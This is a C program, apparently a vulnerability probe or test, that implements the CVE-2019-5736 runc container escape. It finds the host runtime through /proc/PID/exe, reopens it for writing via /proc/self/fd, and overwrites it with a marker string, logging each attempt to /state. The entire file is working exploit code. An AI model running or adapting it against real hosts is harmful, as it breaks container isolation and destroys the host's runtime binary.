// Gets hold of the runtime's program file by /proc/PID/exe of a process that runs it in this container, and overwrites it as soon
// as nobody runs it any more (CVE-2019-5736). How each attempt ended stands in /state/attempts.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static int is_same(int file, const char *path) {
    struct stat one, other;
    return !fstat(file, &one) && !stat(path, &other) && one.st_dev == other.st_dev && one.st_ino == other.st_ino;
}

static const char *overwrite(int file) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", file);
    time_t end = time(0) + 5;
    while (time(0) < end) {
        int program = open(path, O_WRONLY | O_CLOEXEC);
        if (program >= 0) return write(program, "overwritten", 11) == 11 ? "overwritten" : strerror(errno);
        if (errno != ETXTBSY) return strerror(errno);
    }
    return "busy";
}

int main(void) {
    close(open("/state/ready", O_WRONLY | O_CREAT | O_CLOEXEC, 0666));
    for (pid_t next = 2;; ) {
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/exe", next);
        int file = open(path, O_PATH | O_CLOEXEC);
        if (file >= 0) {
            if (!is_same(file, "/workload") && !is_same(file, "/bin/busybox")) {
                int notes = open("/state/attempts", O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0666);
                dprintf(notes, "%s\n", overwrite(file));
                close(notes);
                next++;
            }
            close(file);
        }
        for (pid_t later = next + 1; later < next + 8; later++) {
            snprintf(path, sizeof path, "/proc/%d", later);
            if (!access(path, F_OK)) next = later;
        }
    }
}
